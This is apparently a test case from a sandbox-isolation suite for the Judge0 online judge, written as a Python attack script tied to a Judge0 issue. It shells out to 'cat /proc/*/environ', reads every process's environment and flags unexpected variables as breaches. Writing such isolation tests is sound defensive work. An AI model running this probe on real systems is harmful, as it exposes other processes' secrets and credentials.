# attack: the environment of every process there is, its own ancestors' first
# expect: AC
# exploit: Judge0 issue 564, the environment read through a child process
import os
import subprocess
import sys

# The last four are the language's own, from its language.toml.
known = {"PATH", "HOME", "TMPDIR", "LANG", "USER", "LOGNAME", "ONLINE_JUDGE", "PWD", "SHLVL", "_", "OLDPWD", "LC_CTYPE", "TERM"}
known |= {"OPENBLAS_NUM_THREADS", "PYTHONINTMAXSTRDIGITS", "MPLBACKEND", "MPLCONFIGDIR"}
sys.stderr.write(subprocess.run(["sh", "-c", "env; cat /proc/*/environ"], capture_output=True, text=True).stdout)
for pid in [name for name in os.listdir("/proc") if name.isdigit()] + ["self", "thread-self"]:
    try:
        text = open(f"/proc/{pid}/environ", "rb").read().decode("latin-1")
    except OSError:
        continue
    sys.stderr.write(text)
    for line in text.split("\0"):
        name = line.partition("=")[0]
        if name and name not in known:
            print("BREACH variable", name, "of", pid)
print("held")
